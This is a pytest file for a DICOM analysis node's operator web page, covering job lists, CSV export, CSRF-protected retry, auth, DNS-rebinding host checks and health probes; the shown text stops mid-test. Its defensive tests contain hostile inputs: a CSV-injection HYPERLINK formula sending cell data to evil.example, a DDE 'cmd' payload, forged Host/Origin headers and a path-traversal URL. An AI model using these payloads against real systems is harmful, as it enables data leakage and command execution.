"""The operators' web page: job list, filters, detail, pictures, CSV, retry, auth, health, metrics.

One real :func:`worker.pipeline.analyze_series` run on a small phantom (about 3 s) fills a
results folder; the job records around it are written through :class:`JobStore` as the node
and the workers would. The retry tests send real Celery messages to the embedded
(filesystem) broker in the test's folder and check the message files.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import socket
import socketserver
import sqlite3
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import pydicom
import pytest
from PIL import Image
from prometheus_client.parser import text_string_to_metric_families

from core.config import Config, Destination, DicomwebDestination
from core.echo import EchoOutcome, EchoResult
from core.jobs import JobState, JobStore
from core.result import CSV_HEADER, AnalysisResult, result_csv_row
from service.metrics import INSTANCES_RECEIVED, ScpObserver
from service.web.app import WebConfigError, create_app
from service.web.health import DestinationMonitor
from service.web.server import WebServer
from service.web.sources import SeriesSources
from tests.support.dicomweb import DicomwebStub
from tests.support.node import PATIENT_NAME, free_port, verification_scp, write_series

PACS = {"ae_title": "PACS", "host": "127.0.0.1", "port": 1}
PACS_LABEL = "PACS@127.0.0.1:1"


@dataclass
class WebCase:
    """A node's folders with three series: analysed phantom, ineligible, failed."""

    root: Path
    config: Config
    phantom_uid: str
    phantom_patient: tuple[str, str]
    ineligible_uid: str
    failed_uid: str
    result: AnalysisResult


def make_config(root: Path, **web: object) -> Config:
    """A node configuration whose folders (and embedded broker) live under ``root``."""
    return Config.model_validate(
        {
            "node": {"spool_dir": str(root / "var" / "spool"), "port": free_port()},
            "broker": {"url": None},
            "export": {"destinations": [PACS]},
            "web": {"host": "127.0.0.1", "port": 0, **web},
        }
    )


def _spool(series_dir: Path, config: Config) -> tuple[str, str, Path]:
    """Copy a DICOM series into the spool layout; returns (study, series, folder)."""
    files = sorted(series_dir.glob("*.dcm"))
    ds = pydicom.dcmread(files[0], stop_before_pixels=True)
    dest = config.node.spool_dir / ds.StudyInstanceUID / ds.SeriesInstanceUID
    dest.mkdir(parents=True)
    for f in files:
        shutil.copy(f, dest / f.name)
    return str(ds.StudyInstanceUID), str(ds.SeriesInstanceUID), dest


def build_case(root: Path, phantom_dir: Path, **web: object) -> WebCase:
    """Folders, job records and a real phantom result, as a node would leave them.

    The phantom series went through the whole flow (received -> queued -> analysing ->
    exporting -> one failed delivery attempt -> delivered -> done), sent by ``SCANNER_A``;
    a 3-slice series from ``CT_B`` is ineligible; a 6-slice one from ``CT_B`` failed.
    """
    from core.queue import celery_settings
    from worker.pipeline import analyze_series

    config = make_config(root, **web)
    celery_settings(config)  # creates the embedded broker's folders, as the node does
    store = JobStore(config.node.spool_dir)
    sources = SeriesSources(config.node.spool_dir)
    study, uid, series_dir = _spool(phantom_dir, config)
    first = pydicom.dcmread(sorted(series_dir.glob("*.dcm"))[0], stop_before_pixels=True)
    store.mark_received(uid, study, series_dir)
    n = len(list(series_dir.glob("*.dcm")))
    token = store.mark_queued(uid, n_instances=n)
    assert store.start_analysis(uid, token)
    out = config.node.resolved_results_dir() / uid
    result = analyze_series(series_dir, out, config)
    store.finish_analysis(uid, None, exporting=True)
    store.start_export(uid, [PACS_LABEL])
    store.record_export_attempt(uid, PACS_LABEL, False, None, "association rejected", False)
    store.record_export_attempt(uid, PACS_LABEL, True, "0x0000", None, True)
    store.finish_export(uid)
    sources.record_sender(uid, "SCANNER_A", "10.0.0.5")

    _, bad_uid, bad_src = write_series(root / "in" / "short", 3)
    bad_study, _, bad_dir = _spool(bad_src, config)
    store.mark_received(bad_uid, bad_study, bad_dir)
    store.mark_ineligible(bad_uid, "3 instances: fewer than node.min_slices=20", 3)
    sources.record_sender(bad_uid, "CT_B", "10.0.0.6")

    _, fail_uid, fail_src = write_series(root / "in" / "fail", 6)
    fail_study, _, fail_dir = _spool(fail_src, config)
    store.mark_received(fail_uid, fail_study, fail_dir)
    tok = store.mark_queued(fail_uid, n_instances=6)
    store.start_analysis(fail_uid, tok)
    store.mark_failed(fail_uid, "series validation: slices not equally spaced")
    sources.record_sender(fail_uid, "CT_B", "10.0.0.6")
    return WebCase(
        root=root,
        config=config,
        phantom_uid=uid,
        phantom_patient=(str(first.PatientName), str(first.PatientID)),
        ineligible_uid=bad_uid,
        failed_uid=fail_uid,
        result=result,
    )


@pytest.fixture(scope="module")
def analysed(tmp_path_factory: pytest.TempPathFactory, phantom_series) -> WebCase:  # noqa: ANN001
    """The case, built once per module (read-only tests use it)."""
    return build_case(tmp_path_factory.mktemp("web"), phantom_series[0])


@pytest.fixture()
def case(tmp_path: Path, analysed: WebCase) -> WebCase:
    """A private copy of the case (for tests that change job states)."""
    shutil.copytree(analysed.root, tmp_path / "copy")
    root = tmp_path / "copy"
    with sqlite3.connect(root / "var" / "spool" / "jobs.sqlite") as con:  # absolute paths
        con.execute(
            "UPDATE jobs SET series_dir = replace(series_dir, ?, ?)",
            (str(analysed.root), str(root)),
        )
    config = make_config(root)
    config.node.port = analysed.config.node.port
    return WebCase(
        root,
        config,
        analysed.phantom_uid,
        analysed.phantom_patient,
        analysed.ineligible_uid,
        analysed.failed_uid,
        analysed.result,
    )


def _client(case: WebCase):  # noqa: ANN202 (FlaskClient)
    return create_app(case.config).test_client()


def _queued_messages(config: Config) -> list[dict]:
    folder = config.broker.resolved_embedded_dir(config.node) / "queue"
    msgs = []
    for f in sorted(folder.glob("*")):
        body = json.loads(f.read_text())
        msgs.append(body)
    return msgs


def _rows(html: str) -> list[str]:
    """Series UIDs of the job list's rows, in page order."""
    out, key = [], 'data-series="'
    i = html.find(key)
    while i >= 0:
        j = html.index('"', i + len(key))
        out.append(html[i + len(key) : j])
        i = html.find(key, j)
    return out


# ----------------------------------------------------------------------------- job list


def test_job_list_is_newest_first_and_filters_by_state_and_calling_ae(analysed: WebCase) -> None:
    c = _client(analysed)
    page = c.get("/")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    # received in this order: phantom, ineligible, failed -> newest first
    assert _rows(html) == [analysed.failed_uid, analysed.ineligible_uid, analysed.phantom_uid]
    assert "fewer than node.min_slices=20" in html
    done = c.get("/?state=done").get_data(as_text=True)
    assert _rows(done) == [analysed.phantom_uid]
    ct_b = c.get("/?calling_ae=CT_B").get_data(as_text=True)
    assert _rows(ct_b) == [analysed.failed_uid, analysed.ineligible_uid]
    both = c.get("/?calling_ae=CT_B&state=failed").get_data(as_text=True)
    assert _rows(both) == [analysed.failed_uid]
    # an unknown state is ignored rather than hiding everything
    assert len(_rows(c.get("/?state=bogus").get_data(as_text=True))) == 3


def test_job_list_filters_by_study_date(analysed: WebCase) -> None:
    study_date = analysed.result.source.study_date if analysed.result.source else ""
    assert len(study_date) == 8, "the phantom carries a Study Date"
    iso = f"{study_date[:4]}-{study_date[4:6]}-{study_date[6:]}"
    c = _client(analysed)
    same = c.get(f"/?study_date_from={iso}&study_date_to={iso}").get_data(as_text=True)
    assert _rows(same) == [analysed.phantom_uid]  # the toy series have no Study Date
    later = c.get("/?study_date_from=2999-01-01").get_data(as_text=True)
    assert _rows(later) == []
    assert iso in c.get("/").get_data(as_text=True)


# ----------------------------------------------------------------------------- detail


def test_detail_shows_numbers_timings_exports_and_both_pictures(analysed: WebCase) -> None:
    c = _client(analysed)
    r = analysed.result
    html = c.get(f"/jobs/{analysed.phantom_uid}").get_data(as_text=True)
    assert r.composition is not None and r.smi_cm2_per_m2 is not None
    for key in ("sma", "imat", "vat", "sat"):
        assert f"{r.composition[key].area_cm2:.1f}" in html
    assert f"{r.composition['sma'].mean_hu:.1f}" in html
    assert f"{r.smi_cm2_per_m2:.1f} cm²/m²" in html
    assert f"{r.l3.confidence:.2f}" in html
    assert r.l3.level_verification is not None  # the level verification ran (issue 15)
    assert r.l3.level_verification.text() in html
    for flag in r.qa_flags:
        assert flag in html
    assert "Sarcopenia" in html and (r.sarcopenia is None or r.sarcopenia.cutoffs in html)
    assert "Waiting in queue" in html and "Pipeline stages" in html
    assert f"{r.timing_s['locate']:.2f} s" in html
    assert PACS_LABEL in html and "association rejected" not in html  # last attempt was ok
    assert "SCANNER_A" in html and "Send results to PACS again" in html
    for name, size in (("overview.png", None), ("l3.png", None)):
        resp = c.get(f"/jobs/{analysed.phantom_uid}/{name}")
        assert resp.status_code == 200 and resp.mimetype == "image/png", name
        img = Image.open(io.BytesIO(resp.data))
        assert img.width > 100 and img.height > 100, (name, size)
    sc = pydicom.dcmread(
        analysed.config.node.resolved_results_dir() / analysed.phantom_uid / "sc.dcm"
    )
    png = Image.open(io.BytesIO(c.get(f"/jobs/{analysed.phantom_uid}/l3.png").data))
    assert (png.height, png.width) == (sc.Rows, sc.Columns)


def test_detail_of_failed_and_unknown_series(analysed: WebCase) -> None:
    c = _client(analysed)
    html = c.get(f"/jobs/{analysed.failed_uid}").get_data(as_text=True)
    assert "slices not equally spaced" in html and "Analyse again" in html
    assert 'id="img-l3"' not in html
    assert c.get(f"/jobs/{analysed.failed_uid}/overview.png").status_code == 404
    assert c.get("/jobs/1.2.3.4").status_code == 404
    assert c.get("/jobs/..%2F..%2Fetc/overview.png").status_code == 404


# ----------------------------------------------------------------------------- CSV


def test_csv_has_the_analyze_csv_columns_one_row_per_analysed_series(analysed: WebCase) -> None:
    resp = _client(analysed).get("/measurements.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    reader = csv.DictReader(io.StringIO(resp.get_data(as_text=True)))
    assert tuple(reader.fieldnames or ()) == CSV_HEADER
    rows = list(reader)
    assert rows == [result_csv_row(analysed.result)]


# ----------------------------------------------------------------------------- retry


def _csrf(html: str) -> str:
    key = 'name="csrf" value="'
    i = html.index(key) + len(key)
    return html[i : html.index('"', i)]


def test_retry_requeues_export_then_analysis_like_l3spot_retry(case: WebCase) -> None:
    c = _client(case)
    uid = case.phantom_uid
    token = _csrf(c.get(f"/jobs/{uid}").get_data(as_text=True))
    resp = c.post(f"/jobs/{uid}/retry", data={"csrf": token})
    assert resp.status_code == 303 and "requeued=export" in resp.headers["Location"]
    store = JobStore(case.config.node.spool_dir)
    rec = store.get(uid)
    assert rec.state == "exporting" and rec.exports[0].state == "pending"
    msgs = _queued_messages(case.config)
    assert [m["headers"]["task"] for m in msgs] == ["worker.tasks.export_results"]
    resp = c.post(f"/jobs/{uid}/retry", data={"csrf": token, "analysis": "1"})
    assert resp.status_code == 303 and "requeued=analysis" in resp.headers["Location"]
    assert store.get(uid).state == JobState.QUEUED
    tasks = sorted(m["headers"]["task"] for m in _queued_messages(case.config))
    assert tasks == ["worker.tasks.analyze_series", "worker.tasks.export_results"]
    page = c.get(resp.headers["Location"]).get_data(as_text=True)
    assert "Analysis re-queued." in page and ">queued<" in page
    # a failed series (no results) is analysed again
    token = _csrf(c.get(f"/jobs/{case.failed_uid}").get_data(as_text=True))
    c.post(f"/jobs/{case.failed_uid}/retry", data={"csrf": token})
    assert store.get(case.failed_uid).state == JobState.QUEUED


def test_retry_refuses_missing_csrf_token_and_other_origins(case: WebCase) -> None:
    c = _client(case)
    uid = case.failed_uid
    token = _csrf(c.get(f"/jobs/{uid}").get_data(as_text=True))
    assert c.post(f"/jobs/{uid}/retry").status_code == 403
    assert c.post(f"/jobs/{uid}/retry", data={"csrf": "0" * 64}).status_code == 403
    evil = {"Origin": "http://evil.example"}
    assert c.post(f"/jobs/{uid}/retry", data={"csrf": token}, headers=evil).status_code == 403
    other = _csrf(c.get(f"/jobs/{case.phantom_uid}").get_data(as_text=True))
    assert c.post(f"/jobs/{uid}/retry", data={"csrf": other}).status_code == 403
    assert c.get(f"/jobs/{uid}/retry").status_code == 405
    assert JobStore(case.config.node.spool_dir).get(uid).state == JobState.FAILED
    assert _queued_messages(case.config) == []
    ok = {"Origin": "http://localhost"}
    assert c.post(f"/jobs/{uid}/retry", data={"csrf": token}, headers=ok).status_code == 303


def test_retry_of_a_series_gone_from_the_spool_says_why(case: WebCase) -> None:
    c = _client(case)
    uid = case.failed_uid
    shutil.rmtree(JobStore(case.config.node.spool_dir).get(uid).series_dir)
    token = _csrf(c.get(f"/jobs/{uid}").get_data(as_text=True))
    resp = c.post(f"/jobs/{uid}/retry", data={"csrf": token}, follow_redirects=True)
    assert "Not re-queued: its instances are not in the spool any more" in resp.get_data(
        as_text=True
    )
    assert JobStore(case.config.node.spool_dir).get(uid).state == JobState.FAILED
    # the message comes from a fixed list, never from the query string
    page = c.get(f"/jobs/{uid}?error=<b>pay+here</b>").get_data(as_text=True)
    assert "pay here" not in page and "Not re-queued" not in page


# ----------------------------------------------------------------------------- access


def test_refuses_to_start_unprotected_off_loopback(tmp_path: Path) -> None:
    with pytest.raises(WebConfigError, match="web.token"):
        create_app(make_config(tmp_path, host="0.0.0.0"))
    with pytest.raises(WebConfigError):
        WebServer(make_config(tmp_path, host="192.168.1.10", token=""))
    create_app(make_config(tmp_path, host="::1"))  # loopback: allowed without a token


def test_node_refuses_to_start_with_an_unprotected_public_page(tmp_path: Path) -> None:
    from service.node import Node

    config = make_config(tmp_path, enabled=True, host="0.0.0.0")
    node = Node(config)
    with pytest.raises(WebConfigError):
        node.start()
    assert node.supervisor is None and node.server is None  # nothing was started


def test_token_is_required_when_set_as_bearer_or_basic_password(analysed: WebCase) -> None:
    config = analysed.config.model_copy(deep=True)
    config.web.host, config.web.token = "0.0.0.0", "s3cret-token"
    c = create_app(config).test_client()
    for path in ("/", f"/jobs/{analysed.phantom_uid}", "/measurements.csv", "/metrics"):
        resp = c.get(path)
        assert resp.status_code == 401 and "Basic" in resp.headers["WWW-Authenticate"], path
    assert c.get("/", headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert c.get("/", headers={"Authorization": "Bearer s3cret-token"}).status_code == 200
    assert c.get("/", auth=("admin", "s3cret-token")).status_code == 200
    assert c.get("/", auth=("admin", "nope")).status_code == 401
    assert c.get("/healthz").status_code in (200, 503)  # open to load balancers


# ----------------------------------------------------------------------------- privacy


def test_no_patient_name_or_id_in_any_page_unless_configured(analysed: WebCase) -> None:
    name, pid = analysed.phantom_patient
    assert name and pid
    secrets = (name, pid, name.replace("^", " "), PATIENT_NAME, "SECRET-ID-42")
    c = _client(analysed)
    uids = (analysed.phantom_uid, analysed.ineligible_uid, analysed.failed_uid)
    paths = ["/", "/?state=done", "/measurements.csv", "/healthz", "/metrics"]
    paths += [f"/jobs/{u}" for u in uids]
    for path in paths:
        text = c.get(path).get_data(as_text=True)
        for s in secrets:
            assert s not in text, (path, s)
    config = analysed.config.model_copy(deep=True)
    config.web.show_patient_identifiers = True
    shown = create_app(config).test_client()
    assert pid in shown.get(f"/jobs/{analysed.phantom_uid}").get_data(as_text=True)
    assert PATIENT_NAME in shown.get("/").get_data(as_text=True)


# ----------------------------------------------------------------------------- health, metrics


def test_healthz_is_503_naming_the_failed_checks(analysed: WebCase) -> None:
    c = _client(analysed)
    resp = c.get("/healthz")  # nothing listens on node.port
    body = resp.get_json()
    assert resp.status_code == 503 and body["failed"] == ["node"]
    assert body["checks"]["broker"]["ok"] is True and body["checks"]["disk"]["ok"] is True
    assert body["checks"]["workers"]["ok"] is None
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        config = analysed.config.model_copy(deep=True)
        config.node.port = s.getsockname()[1]
        ok = create_app(config).test_client().get("/healthz")
        assert ok.status_code == 200 and ok.get_json()["status"] == "ok"
        config.node.min_free_disk_mb = 10**9
        full = create_app(config).test_client().get("/healthz")
        assert full.status_code == 503 and full.get_json()["failed"] == ["disk"]


def test_metrics_are_prometheus_text_with_jobs_stages_and_export_failures(
    analysed: WebCase,
) -> None:
    resp = _client(analysed).get("/metrics")
    assert resp.status_code == 200 and resp.mimetype.startswith("text/plain")
    samples = {
        (s.name, tuple(sorted(s.labels.items()))): s.value
        for fam in text_string_to_metric_families(resp.get_data(as_text=True))
        for s in fam.samples
    }
    assert samples[("l3spot_jobs", (("state", JobState.DONE),))] == 1
    assert samples[("l3spot_jobs", (("state", JobState.INELIGIBLE),))] == 1
    assert samples[("l3spot_jobs", (("state", JobState.FAILED),))] == 1
    assert samples[("l3spot_jobs", (("state", JobState.QUEUED),))] == 0
    # two series waited in the queue; one analysis finished (the other failed), one export
    assert samples[("l3spot_stage_duration_seconds_count", (("stage", "queue_wait"),))] == 2
    assert samples[("l3spot_stage_duration_seconds_count", (("stage", "analysis"),))] == 1
    assert samples[("l3spot_stage_duration_seconds_count", (("stage", "export"),))] == 1
    analysis_s = samples[("l3spot_stage_duration_seconds_sum", (("stage", "analysis"),))]
    assert analysis_s >= analysed.result.timing_s["total"] * 0.9
    assert samples[("l3spot_export_failures_total", (("destination", PACS_LABEL),))] == 1
    assert samples[("l3spot_exports", (("destination", PACS_LABEL), ("state", "done")))] == 1
    assert ("l3spot_instances_received_total", ()) in samples
    assert ("l3spot_associations_rejected_total", ()) in samples


# ----------------------------------------------------------------------------- SCP hooks, server


def test_scp_observer_counts_instances_rejections_and_records_calling_ae(tmp_path: Path) -> None:
    from pynetdicom import AE
    from pynetdicom.sop_class import CTImageStorage  # type: ignore[attr-defined]

    from service.metrics import ASSOCIATIONS_REJECTED
    from service.scp import start_scp
    from service.spool import Spool
    from tests.support.node import make_ct

    config = make_config(tmp_path)
    config.node.fsync = False
    config.node.host = "127.0.0.1"
    spool = Spool(config.node.spool_dir, config.node.resolved_quarantine_dir(), fsync=False)
    stored: list[str] = []
    observer = ScpObserver(SeriesSources(config.node.spool_dir).record_sender)
    on_stored = observer.wrap_on_stored(lambda st, se, d: stored.append(se))
    ae, server = start_scp(config, spool, on_stored)
    observer.bind(server)
    before = INSTANCES_RECEIVED._value.get()
    rejected_before = ASSOCIATIONS_REJECTED._value.get()
    try:
        scu = AE(ae_title="MODALITY_7")
        scu.add_requested_context(CTImageStorage)
        assoc = scu.associate("127.0.0.1", config.node.port, ae_title=config.node.ae_title)
        assert assoc.is_established
        study, series = "1.2.826.0.1.3680043.8.498.1", "1.2.826.0.1.3680043.8.498.2"
        for i in range(3):
            assert assoc.send_c_store(make_ct(study, series, i)).Status == 0
        assoc.release()
        wrong = scu.associate("127.0.0.1", config.node.port, ae_title="NOT_THE_NODE")
        assert wrong.is_rejected
    finally:
        ae.shutdown()
    assert stored == [series] * 3
    assert INSTANCES_RECEIVED._value.get() - before == 3
    assert ASSOCIATIONS_REJECTED._value.get() - rejected_before == 1
    info = SeriesSources(config.node.spool_dir).get(series)
    assert info.calling_ae == "MODALITY_7" and info.address == "127.0.0.1"


@pytest.fixture()
def web_server(analysed: WebCase) -> Iterator[WebServer]:
    config = analysed.config.model_copy(deep=True)
    server = WebServer(config)
    server.start()
    yield server
    server.stop()


def test_web_server_serves_over_http_and_stops(web_server: WebServer) -> None:
    port = web_server.port
    assert port > 0
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5) as r:
        assert r.status == 200 and b"Series received" in r.read()
    web_server.stop()
    with pytest.raises(OSError):
        urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2)


# ----------------------------------------------------------------------------- Host check


EVIL = {"Host": "evil.example"}


def test_a_foreign_host_name_gets_nothing_on_any_route(case: WebCase) -> None:
    """DNS rebinding (issue 16): a page served under ``evil.example`` that resolves to
    127.0.0.1 must not read the job list, the CSV or a CSRF token, nor trigger a retry."""
    c = _client(case)
    uid = case.failed_uid
    token = _csrf(c.get(f"/jobs/{uid}").get_data(as_text=True))  # as a local user
    paths = [
        "/",
        f"/jobs/{uid}",
        f"/jobs/{case.phantom_uid}",
        f"/jobs/{case.phantom_uid}/overview.png",
        f"/jobs/{case.phantom_uid}/l3.png",
        "/measurements.csv",
        "/destinations",
        "/metrics",
        "/healthz",
        "/livez",
        "/readyz",
        "/static/style.css",
    ]
    for path in paths:
        resp = c.get(path, headers=EVIL)
        text = resp.get_data(as_text=True)
        assert resp.status_code == 400, path
        assert "Host not allowed" in text and 'name="csrf"' not in text and uid not in text
    resp = c.post(f"/jobs/{uid}/retry", data={"csrf": token}, headers=EVIL)
    assert resp.status_code == 400
    resp = c.post(
        f"/jobs/{uid}/retry",
        data={"csrf": token},
        headers={**EVIL, "Origin": "http://evil.example"},
    )
    assert resp.status_code == 400
    assert c.post("/destinations/0/echo", headers=EVIL).status_code == 400
    assert JobStore(case.config.node.spool_dir).get(uid).state == JobState.FAILED
    assert _queued_messages(case.config) == []
    # the host check also comes before the token challenge
    config = case.config.model_copy(deep=True)
    config.web.host, config.web.token = "0.0.0.0", "s3cret-token"
    auth = {"Authorization": "Bearer s3cret-token"}
    resp = create_app(config).test_client().get("/", headers={**EVIL, **auth})
    assert resp.status_code == 400


def test_loopback_names_web_host_and_allowed_hosts_pass_with_any_port(
    analysed: WebCase, caplog: pytest.LogCaptureFixture
) -> None:
    c = _client(analysed)
    for host in ("localhost", "localhost:8080", "127.0.0.1:5000", "[::1]:8080", "127.0.0.2"):
        assert c.get("/", headers={"Host": host}).status_code == 200, host
    for host in ("evil.example:8080", "localhost.evil.example", "127.0.0.1.evil.example", ""):
        assert c.get("/", headers={"Host": host}).status_code == 400, host
    assert any("web_host_refused" in r.getMessage() for r in caplog.records)

    config = analysed.config.model_copy(deep=True)
    config.web.allowed_hosts = ["L3spot.Hospital.example", ".radiology.example"]
    named = create_app(config).test_client()
    for host in ("l3spot.hospital.example:8443", "node1.radiology.example", "localhost"):
        assert named.get("/", headers={"Host": host}).status_code == 200, host
    for host in ("radiology.example.evil.example", "evilradiology.example", "hospital.example"):
        assert named.get("/", headers={"Host": host}).status_code == 400, host

    config = analysed.config.model_copy(deep=True)
    config.web.host, config.web.token = "10.1.2.3", "s3cret-token"
    bound = create_app(config).test_client()
    auth = {"Authorization": "Bearer s3cret-token"}
    assert bound.get("/", headers={"Host": "10.1.2.3:8080", **auth}).status_code == 200
    assert bound.get("/", headers={"Host": "10.1.2.4:8080", **auth}).status_code == 400

    config = analysed.config.model_copy(deep=True)
    config.web.allowed_hosts = ["*"]  # explicitly off
    assert create_app(config).test_client().get("/", headers=EVIL).status_code == 200


def test_health_routes_answer_probes_that_address_the_node_by_ip(analysed: WebCase) -> None:
    """A probe from another container or host sends ``Host: <node IP>``; a rebinding
    page always sends its own name, so an IP address is no rebinding and may pass there."""
    config = analysed.config.model_copy(deep=True)
    config.web.host, config.web.token = "0.0.0.0", "s3cret-token"
    c = create_app(config).test_client()
    probe = {"Host": "10.9.8.7:8080"}
    for path in ("/healthz", "/livez", "/readyz"):
        assert c.get(path, headers=probe).status_code in (200, 503), path
        assert c.get(path, headers={"Host": "127.0.0.1:8080"}).status_code in (200, 503)
    auth = {"Authorization": "Bearer s3cret-token"}
    assert c.get("/", headers={**probe, **auth}).status_code == 400
    assert c.get("/metrics", headers={**probe, **auth}).status_code == 400


# ----------------------------------------------------------------------------- CSV injection


def test_csv_escapes_formula_text_but_keeps_negative_numbers(case: WebCase) -> None:
    """A SeriesDescription ``=HYPERLINK(...)`` must not become a live formula (issue 16)."""
    path = case.config.node.resolved_results_dir() / case.phantom_uid / "result.json"
    result = AnalysisResult.model_validate_json(path.read_text())
    assert result.source is not None and result.composition is not None
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
    result.source.series_description = formula
    result.reason = "@SUM(1+1)"
    result.qa_flags = ["-2+3", "+cmd|' /C calc'!A0"]
    result.composition["vat"].mean_hu = -87.25
    path.write_text(result.to_json())
    text = _client(case).get("/measurements.csv").get_data(as_text=True)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["series_description"] == "'" + formula
    assert row["reason"] == "'@SUM(1+1)"
    assert row["qa_flags"] == "'-2+3;+cmd|' /C calc'!A0"
    assert row["vat_mean_hu"] == "-87.25"  # a number stays a number
    for name, cell in row.items():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), name
        assert not cell.startswith("-") or float(cell) < 0, name


# ----------------------------------------------------------------------------- liveness, readiness


class FakeProbe:
    """The running node's self-report, set by the test."""

    def __init__(self, listening: bool = True, workers: dict[str, bool] | None = None) -> None:
        self.listening = listening
        self.workers = workers
        self.records: tuple[bool, str | None] | None = None

    def scp_listening(self) -> bool:
        return self.listening

    def worker_processes(self) -> dict[str, bool] | None:
        return self.workers

    def records_health(self) -> tuple[bool, str | None] | None:
        return self.records


def test_a_series_waiting_for_a_failed_database_write_makes_health_fail(case: WebCase) -> None:
    """Issue 16: with the spool's disk full a series stayed ``received`` while /healthz
    said 200; now the watcher retries it and health reports it until it is written."""
    probe = FakeProbe()
    probe.records = (False, "mark_queued: OperationalError: database or disk is full")
    c = create_app(case.config, probe=probe).test_client()
    for path in ("/healthz", "/readyz"):
        resp = c.get(path)
        assert resp.status_code == 503, path
        assert "records" in resp.get_json()["failed"]
        assert "disk is full" in resp.get_json()["checks"]["records"]["detail"]
    probe.records = (True, "mark_queued: OperationalError: database or disk is full")
    assert c.get("/healthz").status_code == 200
    assert c.get("/livez").status_code == 200


def _with_destinations(case: WebCase, *ports: int) -> Config:
    config = case.config.model_copy(deep=True)
    config.export.destinations = [
        Destination(ae_title="PACS", host="127.0.0.1", port=p) for p in ports
    ]
    return config


def _wait_json(c, path: str, done, timeout_s: float = 20.0):  # noqa: ANN001, ANN202
    deadline = time.monotonic() + timeout_s
    while True:
        resp = c.get(path)
        if done(resp.get_json()) or time.monotonic() > deadline:
            return resp
        time.sleep(0.1)


def test_livez_follows_the_scp_and_nothing_a_restart_cannot_fix(analysed: WebCase) -> None:
    config = analysed.config.model_copy(deep=True)
    config.node.min_free_disk_mb = 10**9  # a full disk: not ready, but alive
    probe = FakeProbe(listening=True, workers={"analysis": False})
    c = create_app(config, probe=probe).test_client()
    resp = c.get("/livez")
    assert resp.status_code == 200 and resp.get_json()["status"] == "ok"
    assert c.get("/readyz").status_code == 503
    probe.listening = False
    resp = c.get("/livez")
    assert resp.status_code == 503 and resp.get_json()["checks"]["scp"]["ok"] is False


def test_readyz_fails_on_the_node_but_only_degrades_on_a_silent_destination(
    case: WebCase,
) -> None:
    closed = free_port()
    with verification_scp("PACS") as port:
        config = _with_destinations(case, port, closed)
        ok_label, down_label = (d.label for d in config.export.destinations)
        probe = FakeProbe(listening=True)
        c = create_app(config, probe=probe).test_client()
        resp = _wait_json(c, "/readyz", lambda b: None not in _dest_oks(b))
        body = resp.get_json()
        assert resp.status_code == 200 and body["status"] == "degraded", body
        assert body["failed"] == [] and body["degraded"] == [down_label]
        assert body["destinations"][ok_label]["ok"] is True
        assert "connection refused" in body["destinations"][down_label]["detail"]
        # /healthz as before: no destinations, no C-ECHO
        health = c.get("/healthz").get_json()
        assert health["status"] == "ok" and "destinations" not in health
        probe.listening = False
        resp = c.get("/readyz")
        assert resp.status_code == 503 and resp.get_json()["failed"] == ["node"]
        assert resp.get_json()["status"] == "fail"
    config = _with_destinations(case)
    c = create_app(config, probe=FakeProbe()).test_client()
    body = c.get("/readyz").get_json()
    assert body["status"] == "ok" and body["destinations"] == {}


def _dest_oks(body: dict) -> list:
    return [d["ok"] for d in body["destinations"].values()]


@pytest.mark.slow  # waits out a 5 s C-ECHO timeout
def test_readyz_answers_at_once_while_a_pacs_hangs(case: WebCase) -> None:
    """A PACS that accepts TCP and never answers must not hold up readiness probes."""
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        config = _with_destinations(case, silent.getsockname()[1])
        config.web.destination_echo_timeout_seconds = 5.0
        c = create_app(config, probe=FakeProbe()).test_client()
        t0 = time.monotonic()
        body = c.get("/readyz").get_json()
        elapsed = time.monotonic() - t0
        assert elapsed < 3.0, elapsed  # the C-ECHO goes on in the background
        assert body["status"] == "ok" and _dest_oks(body) == [None]  # not answered yet
        body = _wait_json(c, "/readyz", lambda b: _dest_oks(b) != [None]).get_json()
        assert body["status"] == "degraded" and "timeout" in str(body["destinations"])


def test_destination_c_echo_results_are_reused_for_the_interval(case: WebCase) -> None:
    calls: list[str] = []

    def fake_echo(dest: Destination) -> EchoResult:
        calls.append(dest.label)
        return EchoResult(EchoOutcome.SUCCESS, "ok", 1.0, 0, time.time())

    config = _with_destinations(case, 104, 105)
    config.web.destination_echo_interval_seconds = 3600
    monitor = DestinationMonitor(config, echo=fake_echo)
    assert len(monitor.snapshot(wait_s=5)) == 2
    assert len(monitor.snapshot(wait_s=5)) == 2
    assert sorted(calls) == sorted(d.label for d in config.export.destinations)
    monitor.check(0)  # the page's button always asks again
    assert len(calls) == 3


def test_node_probe_sees_the_scp_acceptor_stop(tmp_path: Path) -> None:
    from pynetdicom import AE
    from pynetdicom.sop_class import Verification  # type: ignore[attr-defined]

    from service.web.server import _NodeProbe

    class Node:
        server = None
        supervisor = None

    node = Node()
    probe = _NodeProbe(node)
    assert probe.scp_listening() is False  # not started yet
    ae = AE()
    ae.add_supported_context(Verification)
    node.server = ae.start_server(("127.0.0.1", 0), block=False)
    try:
        assert probe.scp_listening() is True
        # the acceptor loop ends, the socket stays open (pynetdicom's shutdown closes it)
        socketserver.BaseServer.shutdown(node.server)
        assert node.server.socket.fileno() >= 0
        assert probe.scp_listening() is False
    finally:
        ae.shutdown()
    assert probe.scp_listening() is False


# ----------------------------------------------------------------------------- destinations


def _echo_csrf(html: str, index: int) -> str:
    i = html.index(f'action="/destinations/{index}/echo"')
    return _csrf(html[i:])


def test_destinations_page_shows_each_destination_s_deliveries(case: WebCase) -> None:
    store = JobStore(case.config.node.spool_dir)
    store.start_export(case.failed_uid, [PACS_LABEL])
    store.record_destination_attempt(PACS_LABEL, True)  # an earlier series reached it
    store.record_export_attempt(
        case.failed_uid, PACS_LABEL, False, None, "connection refused by 127.0.0.1:1", False
    )
    store.record_destination_attempt(PACS_LABEL, False, None, "connection refused by 127.0.0.1:1")
    store.start_export(case.ineligible_uid, ["OLD@10.0.0.9:104"])  # since removed
    store.record_export_attempt(case.ineligible_uid, "OLD@10.0.0.9:104", False, None, "x", False)
